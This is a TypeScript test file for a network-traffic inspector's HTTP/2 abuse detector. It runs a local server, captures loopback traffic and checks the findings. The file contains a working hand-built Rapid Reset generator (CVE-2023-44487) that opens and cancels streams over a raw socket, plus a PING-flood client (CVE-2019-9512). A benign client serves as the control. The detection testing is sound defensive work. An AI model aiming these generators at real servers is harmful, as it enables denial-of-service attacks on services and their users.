/**
 * http2-abuse on real HTTP/2: node:http2 (nghttp2) as server and client on loopback, captured by tcpdump with the
 * kernel's own timestamps and read by the engine with the default detectors. The attacks are the ones the CVEs name:
 * streams opened and cancelled in the same write, as the published Rapid Reset tools do (a raw socket: node:http2's
 * own client writes the cancel when it gets to it, and on a busy machine the server has often answered by then), and
 * PINGs sent with the library's own call without waiting (a ping flood). A client as browsers and gRPC behave
 * (requests answered, a few cancelled, a keepalive PING) is not reported.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import nodeHttp2, { type ClientHttp2Session } from 'node:http2';
import net, { type AddressInfo } from 'node:net';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { FlowFinding, ThreatFinding } from '#core/finding.ts';
import { defaultObservers } from '#sidecar/engine/default-observers.ts';
import { inspectFile } from '#sidecar/engine/inspect-file.ts';
import { hasCommand, isRoot } from '#test/helpers/netns.ts';
import { stopTcpdump, tcpdumpListening } from '#test/helpers/tcpdump.ts';
import { tempDir } from '#test/helpers/temp-dir.ts';

const unavailable = !isRoot
  ? 'needs root for tcpdump (runs as root in CI)'
  : hasCommand('tcpdump')
    ? undefined
    : 'tcpdump missing (installed by .ci/run)';

/** Serves every stream with a short answer; captures what `talk` does to it on loopback; inspects the capture. */
const captured = async (talk: (port: number) => Promise<void>, prefix: string) => {
  const server = nodeHttp2.createServer();
  server.on('stream', (stream) => {
    stream.on('error', () => undefined);
    if (!stream.closed) stream.respond({ ':status': 200 });
    if (!stream.closed) stream.end('ok\n');
  });
  server.on('session', (session) => session.on('error', () => undefined));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const port = (server.address() as AddressInfo).port;
  const pcap = join(tempDir(prefix), 'h2.pcap');
  const tcpdump: ChildProcess = spawn('tcpdump', [
    '-i',
    'lo',
    '-U',
    '--immediate-mode',
    '-w',
    pcap,
    `tcp port ${port}`,
  ]);
  try {
    await tcpdumpListening(tcpdump);
    // Bounded, so that a client that hangs fails the test and tcpdump is still stopped (below), not left running.
    let timer: NodeJS.Timeout | undefined;
    const hung = new Promise<never>((_, reject) => {
      timer = setTimeout(() => reject(new Error('the HTTP/2 client did not finish within 20 s')), 20_000);
    });
    await Promise.race([talk(port), hung]).finally(() => clearTimeout(timer));
  } finally {
    await stopTcpdump(tcpdump, 500);
    server.close();
  }
  const { findings } = await inspectFile(pcap, { observers: defaultObservers() });
  const flows = findings.filter((f): f is FlowFinding => f.type === 'flow' && f.server.port === port);
  const threats = findings.filter(
    (f): f is ThreatFinding => f.type === 'threat' && f.threat === 'http2-abuse',
  );
  return { flows, threats };
};

/** A node:http2 client session for `talk`, closed when it is done. */
const session = async (port: number, talk: (client: ClientHttp2Session) => Promise<void>) => {
  const client = nodeHttp2.connect(`http://127.0.0.1:${port}`, { maxOutstandingPings: 1000 });
  client.on('error', () => undefined);
  await once(client, 'connect');
  await talk(client);
  client.close();
  await once(client, 'close');
};

/** An HTTP/2 frame (RFC 9113 §4.1). */
const frame = (type: number, flags: number, stream: number, payload: Buffer) => {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
};

/**
 * Rapid Reset as its tools send it: the preface, then `streams` GETs each followed by its RST_STREAM (CANCEL) in the
 * same write, ten streams a write; then it reads what the server sent until the server closes or a second passes.
 */
const rapidReset = async (port: number, streams: number) => {
  const socket = net.connect(port, '127.0.0.1');
  socket.on('error', () => undefined);
  socket.resume();
  await once(socket, 'connect');
  socket.write(
    Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0, Buffer.alloc(0))]),
  );
  // RFC 7541 C.3.1: GET http://www.example.com/ (static-table indices and one literal).
  const get = Buffer.from('828684410f7777772e6578616d706c652e636f6d', 'hex');
  for (let first = 0; first < streams; first += 10) {
    const batch: Buffer[] = [];
    for (let i = first; i < Math.min(first + 10, streams); i++) {
      batch.push(frame(0x1, 0x5, 1 + 2 * i, get), frame(0x3, 0, 1 + 2 * i, Buffer.from('00000008', 'hex')));
    }
    socket.write(Buffer.concat(batch));
  }
  await Promise.race([once(socket, 'close'), new Promise((resolve) => setTimeout(resolve, 1000))]);
  socket.destroy();
};

/** Opens a stream and cancels it at once, as a browser leaving a page or a gRPC client past its deadline does. */
const openAndCancel = (client: ClientHttp2Session) =>
  new Promise<void>((resolve) => {
    const request = client.request({ ':path': '/' });
    request.on('error', () => undefined);
    request.on('close', () => resolve());
    request.close(nodeHttp2.constants.NGHTTP2_CANCEL);
  });

const ask = (client: ClientHttp2Session) =>
  new Promise<void>((resolve, reject) => {
    const request = client.request({ ':path': '/items/1' });
    request.on('error', reject);
    request.resume();
    request.on('end', () => resolve());
  });

describe.skipIf(unavailable !== undefined)(
  `http2-abuse on node:http2 traffic${unavailable === undefined ? '' : ` (skipped: ${unavailable})`}`,
  () => {
    it('reports Rapid Reset: 300 streams opened and cancelled before the answer', async () => {
      const { flows, threats } = await captured((port) => rapidReset(port, 300), 'meshward-h2-reset-');
      expect(flows.map((f) => f.protocol)).toEqual(['http2']);
      expect(flows[0]?.l7?.operations).toContain('http2 resets');
      expect(
        threats,
        JSON.stringify({ ops: flows[0]?.l7?.operations, notes: flows[0]?.notes, flows: flows.length }),
      ).toHaveLength(1);
      expect(threats[0]?.evidence).toMatch(
        /^client reset \d+ of the \d+ streams it opened before the server answered, in [\d.]+ s \(Rapid Reset, CVE-2023-44487\)/,
      );
    }, 30_000);

    it('reports a ping flood: 300 PINGs sent without waiting for their answers', async () => {
      const { threats } = await captured(
        (port) =>
          session(port, async (client) => {
            const pings: Promise<void>[] = [];
            for (let i = 0; i < 300; i++)
              pings.push(new Promise((resolve) => client.ping(Buffer.alloc(8, i), () => resolve())));
            await Promise.all(pings);
          }),
        'meshward-h2-ping-',
      );
      expect(threats.map((t) => t.evidence)).toEqual([
        expect.stringMatching(/^client sent 256 PING frames in [\d.]+ s \(CVE-2019-9512 ping flood\)/),
      ]);
    }, 30_000);

    it('leaves an ordinary client alone: 300 answered requests, 20 cancelled, 2 keepalive PINGs', async () => {
      const { flows, threats } = await captured(
        (port) =>
          session(port, async (client) => {
            for (let i = 0; i < 300; i++) await ask(client);
            for (let i = 0; i < 20; i++) await openAndCancel(client);
            for (let i = 0; i < 2; i++) await new Promise<void>((resolve) => client.ping(() => resolve()));
          }),
        'meshward-h2-ok-',
      );
      expect(flows.map((f) => f.protocol)).toEqual(['http2']);
      expect(threats).toEqual([]);
    }, 60_000);
  },
);
